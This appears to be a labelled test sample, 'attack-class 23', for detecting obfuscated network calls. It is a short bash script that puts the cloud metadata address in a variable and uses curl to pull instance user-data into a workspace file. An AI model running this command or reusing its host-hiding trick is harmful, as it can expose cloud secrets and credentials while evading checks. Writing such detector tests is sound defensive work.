#!/usr/bin/env bash
# attack-class: 23
# title: curl "$URL" with the host in a variable
# why: the host is not visible as a literal

h=169.254.169.254
curl -s "http://$h/latest/user-data" > /workspace/userdata.txt
